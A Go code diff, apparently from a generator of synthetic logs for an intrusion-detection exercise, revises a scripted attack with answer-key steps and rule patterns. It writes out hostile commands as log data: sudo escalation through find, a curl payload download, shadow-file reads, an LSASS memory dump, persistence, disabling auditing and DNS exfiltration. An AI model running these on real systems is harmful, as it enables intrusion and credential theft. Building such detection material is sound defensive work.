@@ -36,13 +36,14 @@ func (p *play) intrusion() {
 		if i == victimAt || w.leaver || i%4 == 3 {
 			continue
 		}
-		p.signIn(&signin{at: at.Truncate(time.Millisecond), w: w, ip: attacker, land: "NL", reason: "invalid_password", client: "Authenticated SMTP", app: "Mail", agent: "BAV2ROPC", session: d.uuid()})
+		p.signIn(&signin{at: at.Truncate(time.Millisecond), w: w, ip: attacker, land: "NL", reason: "invalid_password", code: 50126, client: "Authenticated SMTP", app: "Mail", agent: "BAV2ROPC", session: d.uuid()})
 		at = at.Add(d.part(50*time.Second, 75*time.Second))
 	}
-	p.step(start, Step{Title: "Password spray at the identity provider", Host: "idp", Source: "idp", Dataset: "signin", Technique: "T1110.003", Rule: `(?i)legacy|spray|basic auth`})
+	p.signIn(&signin{at: start.Add(9 * time.Minute), w: &person{id: "e-0871", mail: "records.desk@" + dnsDomain}, ip: attacker, land: "NL", reason: "account_disabled", code: 50057, client: "Authenticated SMTP", app: "Mail", agent: "BAV2ROPC", session: d.uuid()})
+	p.step(start, Step{Title: "Password spray at the identity provider", Host: "idp", Source: "idp", Dataset: "signin", Technique: "T1110.003", Rule: `Disabled Account`})
 	at = soon(d, start.Add(41*time.Minute))
 	p.signIn(&signin{at: at, w: v, ip: attacker, land: "NL", ok: true, client: "Authenticated SMTP", app: "Mail", agent: "BAV2ROPC", session: d.uuid()})
-	p.step(at, Step{Title: "Sign-in from a new country without a second factor", Host: "idp", Source: "idp", Dataset: "signin", Technique: "T1078.004", Rule: `(?i)legacy|without (a )?(mfa|second)|no mfa|single.factor`})
+	p.step(at, Step{Title: "Sign-in from a new country without a second factor", Host: "idp", Source: "idp", Dataset: "signin", Technique: "T1078.004", Rule: `Without a Second Factor`})
 
 	// 3, 4: the jump host takes the same password; sudo gives a shell.
 	at = soon(d, start.Add(58*time.Minute))
@@ -50,14 +51,15 @@ func (p *play) intrusion() {
 	p.login(d, s, at, "password", 3*time.Hour+6*time.Minute)
 	in := &flow{at: at.Add(-2 * time.Second), length: 3*time.Hour + 6*time.Minute, src: attacker, dst: "192.0.2.20", sport: s.port, dport: 22, app: "SSH", service: "ssh", sent: 611_204, got: 1_940_117, state: "SF", history: "ShAdDaFf", uid: "C" + d.word(17), local: true}
 	p.passed(in, 31, "wan", "dmz")
-	p.step(at, Step{Title: "Login to the jump host by password from a public address", Host: "jump01", Source: "linux", Dataset: "linux-sshd", Technique: "T1021.004", Rule: `(?i)ssh|password`})
+	p.step(at, Step{Title: "Login to the jump host by password from a public address", Host: "jump01", Source: "linux", Dataset: "linux-sshd", Technique: "T1021.004", Rule: `SSH Logon With a Password`})
 	at = soon(d, start.Add(63*time.Minute))
-	p.sudo(s, at, 24301, "/home/"+v.account, "/bin/bash")
-	p.step(at, Step{Title: "Root shell by sudo", Host: "jump01", Source: "linux", Dataset: "linux-sudo", Technique: "T1548.003", Rule: `(?i)sudo|root shell`})
+	p.sudo(s, at, 24301, "/home/"+v.account, "/usr/bin/find /var/log -maxdepth 0 -exec /bin/bash ;")
+	p.step(at, Step{Title: "Root shell out of a tool under sudo", Host: "jump01", Source: "linux", Dataset: "linux-sudo", Technique: "T1548.003", Rule: `Shell Opened From a Tool`})
 
 	// 5 to 7: as root.
 	root := who{auid: s.uid, uid: 0, session: s.session, tty: "pts3"}
-	p.exec(d, p.jump, at.Add(2*time.Second), root, 24301, 24302, "/usr/bin/bash", "/home/"+v.account, "exec", "/bin/bash")
+	p.exec(d, p.jump, at.Add(6*time.Millisecond), root, 24300, 24301, "/usr/bin/find", "/home/"+v.account, "exec", "/usr/bin/find", "/var/log", "-maxdepth", "0", "-exec", "/bin/bash", ";")
+	p.exec(d, p.jump, at.Add(9*time.Millisecond), root, 24301, 24302, "/usr/bin/bash", "/home/"+v.account, "exec", "/bin/bash")
 	p.exec(d, p.jump, at.Add(40*time.Second), root, 24302, 24310, "/usr/bin/id", "/home/"+v.account, "exec", "id")
 	p.exec(d, p.jump, at.Add(55*time.Second), root, 24302, 24311, "/usr/bin/uname", "/home/"+v.account, "exec", "uname", "-a")
 	at = soon(d, start.Add(67*time.Minute))
@@ -67,18 +69,18 @@ func (p *play) intrusion() {
 	p.exec(d, p.jump, at.Add(9*time.Millisecond), root, 24340, 24342, "/usr/bin/dash", "/root", "exec", "sh")
 	p.exec(d, p.jump, at.Add(700*time.Millisecond), root, 24342, 24344, "/usr/bin/curl", "/root", "exec", "curl", "-fsSL", "-o", "/tmp/.cache-x11", "http://"+staging+"/agent")
 	p.exec(d, p.jump, at.Add(2100*time.Millisecond), root, 24342, 24346, "/usr/bin/chmod", "/root", "exec", "chmod", "+x", "/tmp/.cache-x11")
-	p.exec(d, p.jump, at.Add(2200*time.Millisecond), root, 24342, 24347, "/tmp/.cache-x11", "/root", "exec", "/tmp/.cache-x11", "-b")
 	p.conn(&flow{at: at.Add(9 * time.Millisecond), length: 612 * time.Millisecond, src: p.jump.ip, dst: staging, sport: 41870, dport: 80, service: "http", sent: 84, got: 2_914, state: "SF", history: "ShADadFf", uid: "C" + d.word(17)})
 	p.passed(&flow{at: at, length: time.Second, src: p.jump.ip, dst: staging, sport: 41870, dport: 80, app: "HTTP", sent: 84, got: 2_914}, 33, "dmz", "wan")
-	p.step(at, Step{Title: "A script from the Internet piped to a shell", Host: "jump01", Source: "linux-audit", Dataset: "linux-auditd", Technique: "T1059.004", Rule: `(?i)curl|download|pipe|/tmp`})
+	p.step(at, Step{Title: "A script from the Internet piped to a shell", Host: "jump01", Source: "linux-audit", Dataset: "linux-auditd", Technique: "T1059.004", Rule: `Download Piped Into a Shell`})
 	at = soon(d, start.Add(72*time.Minute))
 	p.exec(d, p.jump, at, root, 24302, 24388, "/usr/bin/cat", "/root", "exec", "cat", "/etc/shadow")
 	p.open(d, p.jump, at.Add(3*time.Millisecond), root, 24302, 24388, "/usr/bin/cat", "/root", "/etc/shadow", "0100640", "NORMAL", "shadow", "cat", "/etc/shadow")
-	p.step(at, Step{Title: "The password file read", Host: "jump01", Source: "linux-audit", Dataset: "linux-auditd", Technique: "T1003.008", Rule: `(?i)shadow|password file|credential`})
+	p.step(at, Step{Title: "The password file read", Host: "jump01", Source: "linux-audit", Dataset: "linux-auditd", Technique: "T1003.008", Rule: `Password File Read`})
 	at = soon(d, start.Add(76*time.Minute))
 	p.exec(d, p.jump, at, root, 24302, 24402, "/usr/bin/dash", "/root", "exec", "sh", "-c", "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI"+d.word(43)+" >> /root/.ssh/authorized_keys")
 	p.open(d, p.jump, at.Add(2*time.Millisecond), root, 24402, 24402, "/usr/bin/dash", "/root", "/root/.ssh/authorized_keys", "0100600", "NORMAL", "ssh_keys", "sh", "-c", "echo")
-	p.step(at, Step{Title: "A key of the intruder's own for root", Host: "jump01", Source: "linux-audit", Dataset: "linux-auditd", Technique: "T1098.004", Rule: `(?i)authorized.?keys|ssh key`})
+	p.exec(d, p.jump, at.Add(5*time.Second), root, 24302, 24411, "/tmp/.cache-x11", "/root", "exec", "/tmp/.cache-x11", "-b")
+	p.step(at, Step{Title: "A key of the intruder's own for root, and a program in a temporary folder", Host: "jump01", Source: "linux-audit", Dataset: "linux-auditd", Technique: "T1098.004", Rule: `Temporary Folder|(?i)authorized.?keys`})
 
 	p.windowsPart(d, v)
 }
@@ -92,7 +94,7 @@ func (p *play) windowsPart(d *draws, v *person) {
 		p.conn(&flow{at: at.Add(time.Duration(i) * 170 * time.Millisecond), length: 3 * time.Millisecond, src: p.jump.ip, dst: p.ad.ip, sport: 43120 + i*2, dport: 88, service: "krb_tcp", sent: 1_702, got: 1_655, state: "SF", history: "ShADadFf", local: true, uid: "C" + d.word(17)})
 		p.serviceTicket(at.Add(time.Duration(i)*170*time.Millisecond), v.user(), s[0], domainSID+"-"+s[1], "0x17", "0x40810010", p.jump.ip, 43120+i*2, d.guid())
 	}
-	p.step(at, Step{Title: "Service tickets with a weak cipher for five service accounts", Host: "DC01", Source: "dc", Dataset: "win-security", Technique: "T1558.003", Rule: `(?i)kerberoast|rc4|weak`})
+	p.step(at, Step{Title: "Service tickets with a weak cipher for five service accounts", Host: "DC01", Source: "dc", Dataset: "win-security", Technique: "T1558.003", Rule: `RC4`})
 
 	deploy := account{"svc-deploy", domain, domainSID + "-1520"}
 	at = soon(d, p.to.Add(-10*time.Hour-20*time.Minute))
@@ -106,7 +108,7 @@ func (p *play) windowsPart(d *draws, v *person) {
 	p.install(p.wsIT, at.Add(time.Second), l, "BTOBTO", `%SystemRoot%\xKqPzLrT.exe`)
 	p.service(p.wsIT, at.Add(1200*time.Millisecond), "BTOBTO", "running")
 	p.conn(&flow{at: at.Add(-20 * time.Millisecond), length: 9 * time.Second, src: p.jump.ip, dst: p.wsIT.ip, sport: l.port, dport: 445, service: "gssapi,ntlm,smb,dce_rpc", sent: 68_422, got: 9_207, state: "SF", history: "ShADadFf", local: true, uid: "C" + d.word(17)})
-	p.step(at.Add(time.Second), Step{Title: "A service with a random name on a workstation, from the jump host", Host: "WS-IT-03", Source: "workstations", Dataset: "win-security", Technique: "T1569.002", Rule: `(?i)service`})
+	p.step(at.Add(time.Second), Step{Title: "A service with a random name on a workstation, from the jump host", Host: "WS-IT-03", Source: "workstations", Dataset: "win-security", Technique: "T1569.002", Rule: `Remote Execution|Administrative Share`})
 
 	tool := func(image, parent, parentCommand, original string) *program {
 		return &program{image: image, parent: parent, parentCommand: parentCommand, description: "-", company: "-", product: "-", original: original, version: "-", system: true, integrity: "System", hashes: hashesOf(image, "tool")}
@@ -135,23 +137,23 @@ func (p *play) windowsPart(d *draws, v *person) {
 	p.connect(p.wsIT, at.Add(900*time.Millisecond), ps, 50877, staging, "-", 80)
 	p.conn(&flow{at: at.Add(900 * time.Millisecond), length: 1400 * time.Millisecond, src: p.wsIT.ip, dst: staging, sport: 50877, dport: 80, service: "http", sent: 71, got: 48_190, state: "SF", history: "ShADadFf", uid: "C" + d.word(17)})
 	p.passed(&flow{at: at.Add(900 * time.Millisecond), length: 1400 * time.Millisecond, src: p.wsIT.ip, dst: staging, sport: 50877, dport: 80, app: "HTTP", sent: 71, got: 48_190}, 12, "lan", "wan")
-	p.step(at, Step{Title: "Encoded PowerShell fetches the next stage", Host: "WS-IT-03", Source: "workstations", Dataset: "win-sysmon", Technique: "T1059.001", Rule: `(?i)powershell`})
+	p.step(at, Step{Title: "Encoded PowerShell fetches the next stage", Host: "WS-IT-03", Source: "workstations", Dataset: "win-sysmon", Technique: "T1059.001", Rule: `PowerShell|Script Downloads`})
 
 	at = soon(d, p.to.Add(-10*time.Hour-2*time.Minute))
 	dump := p.start(d, p.wsIT, at, ms(`C:\Windows\System32\rundll32.exe`, shellImage, "powershell.exe -nop -w hidden", "RUNDLL32.EXE", "Windows host process (Rundll32)"),
 		`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 744 C:\Windows\Temp\d.dmp full`, boot)
 	p.access(p.wsIT, at.Add(200*time.Millisecond), dump, `C:\Windows\system32\lsass.exe`, "0x1fffff", `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\System32\comsvcs.dll+2d3a1|C:\Windows\System32\rundll32.exe+3b6e`)
 	p.create(p.wsIT, at.Add(500*time.Millisecond), dump, `C:\Windows\Temp\d.dmp`)
-	p.step(at, Step{Title: "Memory of the credential store read", Host: "WS-IT-03", Source: "workstations", Dataset: "win-sysmon", Technique: "T1003.001", Rule: `(?i)lsass|comsvcs|minidump`})
+	p.step(at, Step{Title: "Memory of the credential store read", Host: "WS-IT-03", Source: "workstations", Dataset: "win-sysmon", Technique: "T1003.001", Rule: `comsvcs|LSASS`})
 
 	at = soon(d, p.to.Add(-9*time.Hour-50*time.Minute))
 	tasks := ms(`C:\Windows\System32\schtasks.exe`, shellImage, "powershell.exe -nop -w hidden", "schtasks.exe", "Task Scheduler Configuration Tool")
-	command := `schtasks /create /tn "\Microsoft\Windows\UpdateOrchestrator\Health Scan" /tr "C:\ProgramData\sync\svcsync.exe" /sc minute /mo 20 /ru SYSTEM /f`
+	command := `schtasks /create /tn "\Microsoft\Windows\UpdateOrchestrator\Health Scan" /tr "C:\Users\Public\Libraries\svcsync.exe" /sc minute /mo 20 /ru SYSTEM /f`
 	p.start(d, p.wsIT, at, tasks, command, boot)
 	p.log(p.wsIT, p.wsIT.security, at.Add(250*time.Millisecond), 4698, false, func(f *fields) {
 		f.subject(account{"WS-IT-03$", domain, "S-1-5-18"}, 0x3e7)
 		f.s("TaskName", `\Microsoft\Windows\UpdateOrchestrator\Health Scan`)
-		f.s("TaskContent", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\"><Triggers><TimeTrigger><Repetition><Interval>PT20M</Interval></Repetition></TimeTrigger></Triggers><Principals><Principal><UserId>S-1-5-18</UserId></Principal></Principals><Actions><Exec><Command>C:\\ProgramData\\sync\\svcsync.exe</Command></Exec></Actions></Task>")
+		f.s("TaskContent", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\"><Triggers><TimeTrigger><Repetition><Interval>PT20M</Interval></Repetition></TimeTrigger></Triggers><Principals><Principal><UserId>S-1-5-18</UserId></Principal></Principals><Actions><Exec><Command>C:\\Users\\Public\\Libraries\\svcsync.exe</Command></Exec></Actions></Task>")
 		f.s("ClientProcessStartKey", "5629499534214420")
 		f.s("ClientProcessId", "6120")
 		f.s("ParentProcessId", "5588")
@@ -159,9 +161,9 @@ func (p *play) windowsPart(d *draws, v *person) {
 		f.s("FQDN", p.wsIT.fqdn)
 	})
 	reg := p.start(d, p.wsIT, at.Add(20*time.Second), ms(`C:\Windows\System32\reg.exe`, shellImage, "powershell.exe -nop -w hidden", "reg.exe", "Registry Console Tool"),
-		`reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v SyncHelper /t REG_SZ /d C:\ProgramData\sync\svcsync.exe /f`, boot)
-	p.setValue(p.wsIT, at.Add(20200*time.Millisecond), reg, `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\SyncHelper`, `C:\ProgramData\sync\svcsync.exe`)
-	p.step(at, Step{Title: "A scheduled task and a run key to stay", Host: "WS-IT-03", Source: "workstations", Dataset: "win-sysmon", Technique: "T1053.005", Rule: `(?i)task|run key|schtasks|autostart`})
+		`reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v SyncHelper /t REG_SZ /d C:\Users\Public\Libraries\svcsync.exe /f`, boot)
+	p.setValue(p.wsIT, at.Add(20200*time.Millisecond), reg, `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\SyncHelper`, `C:\Users\Public\Libraries\svcsync.exe`)
+	p.step(at, Step{Title: "A scheduled task and a run key to stay", Host: "WS-IT-03", Source: "workstations", Dataset: "win-sysmon", Technique: "T1053.005", Rule: `Scheduled Task|Run Key`})
 
 	// The dump held an administrator of the domain.
 	admin := p.people[3]
@@ -188,7 +190,7 @@ func (p *play) windowsPart(d *draws, v *person) {
 	p.member(p.ad, at.Add(5*time.Second), 4728, da, added, "CN="+added.name+",CN=Users,DC=agency,DC=example", "Domain Admins", domainSID+"-512", domain)
 	p.member(p.ad, at.Add(6*time.Second), 4732, da, added, "CN="+added.name+",CN=Users,DC=agency,DC=example", "Administrators", "S-1-5-32-544", "Builtin")
 	p.logoff(p.ad, at.Add(40*time.Second), da)
-	p.step(at.Add(5*time.Second), Step{Title: "A new account among the domain administrators", Host: "DC01", Source: "dc", Dataset: "win-security", Technique: "T1098", Rule: `(?i)group|admin`})
+	p.step(at.Add(5*time.Second), Step{Title: "A new account among the domain administrators", Host: "DC01", Source: "dc", Dataset: "win-security", Technique: "T1098", Rule: `Privileged Group`})
 
 	// The file server.
 	at = soon(d, p.to.Add(-7*time.Hour))
@@ -202,7 +204,7 @@ func (p *play) windowsPart(d *draws, v *person) {
 	psexec.product, psexec.company, psexec.description, psexec.version = "Sysinternals PsExec", "Sysinternals", "PsExec Service", "2.43"
 	p.start(d, p.fs, at.Add(1100*time.Millisecond), psexec, `C:\Windows\PSEXESVC.exe`, boot)
 	p.conn(&flow{at: at.Add(-20 * time.Millisecond), length: 7 * time.Minute, src: p.wsIT.ip, dst: p.fs.ip, sport: fl.port, dport: 445, service: "gssapi,ntlm,smb,dce_rpc", sent: 1_204_551, got: 88_930, state: "SF", history: "ShADadFf", local: true, uid: "C" + d.word(17)})
-	p.step(at.Add(time.Second), Step{Title: "Remote service on the file server with the new account", Host: "FS01", Source: "fileserver", Dataset: "win-system", Technique: "T1021.002", Rule: `(?i)psexec|service`})
+	p.step(at.Add(time.Second), Step{Title: "Remote service on the file server with the new account", Host: "FS01", Source: "fileserver", Dataset: "win-system", Technique: "T1021.002", Rule: `Remote Execution|Administrative Share`})
 
 	at = soon(d, p.to.Add(-6*time.Hour-20*time.Minute))
 	rar := tool(`C:\PerfLogs\rar.exe`, psexec.image, psexec.image, "Rar.exe")
@@ -211,21 +213,30 @@ func (p *play) windowsPart(d *draws, v *person) {
 	for i := range 4 {
 		p.create(p.fs, at.Add(time.Duration(i+1)*3*time.Minute), work, fmt.Sprintf(`C:\PerfLogs\p.part%d.rar`, i+1))
 	}
-	p.step(at, Step{Title: "Finance and personnel files packed with a password", Host: "FS01", Source: "fileserver", Dataset: "win-sysmon", Technique: "T1560.001", Rule: `(?i)archive|rar|compress`})
+	p.step(at, Step{Title: "Finance and personnel files packed with a password", Host: "FS01", Source: "fileserver", Dataset: "win-sysmon", Technique: "T1560.001", Rule: `Archive Made With a Password`})
 
 	// The agent is stopped; what the host writes for forty minutes never arrives.
 	at = p.gapFrom.Add(-4 * time.Second)
 	sc := ms(`C:\Windows\System32\sc.exe`, cmdImage, "cmd", "sc.exe", "Service Control Manager Configuration Tool")
+	auditpol := ms(`C:\Windows\System32\auditpol.exe`, cmdImage, "cmd", "AUDITPOL.EXE", "Audit Policy Program")
+	p.start(d, p.fs, at.Add(-20*time.Second), auditpol, `auditpol /set /subcategory:"Process Creation" /success:disable /failure:disable`, boot)
+	p.log(p.fs, p.fs.security, at.Add(-19900*time.Millisecond), 4719, false, func(f *fields) {
+		f.subject(account{"FS01$", domain, "S-1-5-18"}, 0x3e7)
+		f.s("CategoryId", "%%8276")
+		f.s("SubcategoryId", "%%13312")
+		f.s("SubcategoryGuid", "{0CCE922B-69AE-11D9-BED3-505054503030}")
+		f.s("AuditPolicyChanges", "%%8448, %%8450")
+	})
 	p.start(d, p.fs, at, sc, "sc stop winlogbeat", boot)
 	p.service(p.fs, at.Add(2*time.Second), "winlogbeat", "stopped")
-	p.step(at, Step{Title: "The log agent stopped", Host: "FS01", Source: "fileserver", Dataset: "win-sysmon", Technique: "T1562.001", Rule: `(?i)stop|agent|sensor|tamper|defen[cs]e|winlogbeat`})
+	p.step(at.Add(-20*time.Second), Step{Title: "Auditing switched off and the log agent stopped", Host: "FS01", Source: "fileserver", Dataset: "win-security", Technique: "T1562.002", Rule: `Audit Policy|Auditing`})
 
 	// The agent would have sent these.
-	sync := tool(`C:\ProgramData\sync\svcsync.exe`, cmdImage, "cmd", "-")
-	ps = p.start(d, p.fs, p.gapFrom.Add(4*time.Minute), sync, `C:\ProgramData\sync\svcsync.exe -d C:\PerfLogs`, boot)
+	sync := tool(`C:\Users\Public\Libraries\svcsync.exe`, cmdImage, "cmd", "-")
+	ps = p.start(d, p.fs, p.gapFrom.Add(4*time.Minute), sync, `C:\Users\Public\Libraries\svcsync.exe -d C:\PerfLogs`, boot)
 	at = p.gapFrom.Add(5 * time.Minute)
-	for i := range 180 {
-		t := at.Add(time.Duration(i)*3*time.Second + d.part(0, 900*time.Millisecond)).Truncate(time.Microsecond)
+	for i := range 60 {
+		t := at.Add(time.Duration(i)*9*time.Second + d.part(0, 4*time.Second)).Truncate(time.Microsecond)
 		var block [30]byte
 		for j := range block {
 			block[j] = byte(d.Uint32())
@@ -235,17 +246,17 @@ func (p *play) windowsPart(d *draws, v *person) {
 			name: name, qtype: 16, qname: "TXT", rname: "NOERROR", answer: "TXT 4 " + d.word(4), ttl: 1})
 		p.resolve(p.fs, t, ps, name, "0.0.0.0")
 	}
-	p.step(at, Step{Title: "Data in DNS names", Host: "FS01", Source: "zeek", Dataset: "zeek-dns", Technique: "T1048.003", Rule: `(?i)dns`})
+	p.step(at, Step{Title: "Data in DNS names", Host: "FS01", Source: "zeek", Dataset: "zeek-dns", Technique: "T1048.003", Rule: `DNS`})
 
 	at = p.gapFrom.Add(20 * time.Minute)
 	for i, size := range [...]uint64{524_301_772, 524_300_911, 524_301_020, 211_870_336} {
-		f := &flow{at: at.Add(time.Duration(i) * 3 * time.Minute), length: 2*time.Minute + d.part(0, 40*time.Second).Truncate(time.Microsecond), src: p.fs.ip, dst: dropBox, sport: 53120 + i, dport: 443,
-			service: "ssl", app: "HTTPS", sent: size, got: 1_204_332, state: "SF", history: "ShADadFf", uid: "C" + d.word(17)}
-		p.connect(p.fs, f.at, ps, f.sport, dropBox, "-", 443)
+		f := &flow{at: at.Add(time.Duration(i) * 3 * time.Minute), length: 2*time.Minute + d.part(0, 40*time.Second).Truncate(time.Microsecond), src: p.fs.ip, dst: dropBox, sport: 53120 + i, dport: 8443,
+			service: "ssl", app: "tcp-8443", sent: size, got: 1_204_332, state: "SF", history: "ShADadFf", uid: "C" + d.word(17)}
+		p.connect(p.fs, f.at, ps, f.sport, dropBox, "-", 8443)
 		p.conn(f)
 		p.passed(f, 12, "servers", "wan")
 	}
-	p.step(at, Step{Title: "1.8 GB to an unknown server", Host: "FS01", Source: "firewall", Dataset: "firewall", Technique: "T1048.002", Rule: `(?i)large|outbound|upload|exfil|bytes`})
+	p.step(at, Step{Title: "1.8 GB to an unknown server", Host: "FS01", Source: "firewall", Dataset: "firewall", Technique: "T1048.002", Rule: `Large Upload`})
 
 	at = p.gapTo.Add(7 * time.Second)
 	p.log(p.fs, p.fs.security, at, 1102, false, func(f *fields) {
@@ -256,7 +267,7 @@ func (p *play) windowsPart(d *draws, v *person) {
 		f.s("xml_name", "LogFileCleared")
 	})
 	p.service(p.fs, at.Add(time.Second), "winlogbeat", "running")
-	p.step(at, Step{Title: "The security log cleared", Host: "FS01", Source: "fileserver", Dataset: "win-security", Technique: "T1070.001", Rule: `(?i)clear`})
+	p.step(at, Step{Title: "The security log cleared", Host: "FS01", Source: "fileserver", Dataset: "win-security", Technique: "T1070.001", Rule: `Log Cleared`})
 }
 
 // bystanders are the two things that have nothing to do with the intruder.
@@ -266,6 +277,14 @@ func (p *play) bystanders() {
 	at := p.to.Add(-30 * time.Hour)
 	p.signIn(&signin{at: at, w: w, ip: w.home, land: "US", ok: true, mfa: true, client: "browser", app: "Document Store", device: w.laptopID, agent: w.agent, session: d.uuid()})
 	p.truth.Leaver = Sighting{Person: w.id, Source: p.idp.Source, Time: at, What: "sign-in after the end date"}
+	for n := 1; n < 4; n++ {
+		t := p.from.Add(time.Duration(n)*12*time.Hour + d.part(time.Hour, 9*time.Hour)).Truncate(time.Millisecond)
+		phone := p.people[abroadAt]
+		p.deviceReport(&report{at: t, w: phone, osVersion: phone.phoneVersion(), land: "TH", action: "report", checkIn: t.Add(-d.part(time.Second, 20*time.Minute)).Truncate(time.Second)})
+		if n == 1 {
+			p.truth.Abroad = Sighting{Person: phone.id, Source: p.mdm.Source, Time: t, What: "phone " + phone.phoneSerial + " reports from TH"}
+		}
+	}
 	l := &logon{who: w.user(), id: 0x4410be2, kind: 3, pkg: "Kerberos", station: "-", ip: w.laptop, port: 50551, guid: d.guid()}
 	p.ticket(at.Add(3*time.Minute), w.user(), w.laptop, 50549)
 	p.logonOn(p.fs, at.Add(3*time.Minute+time.Second), l)
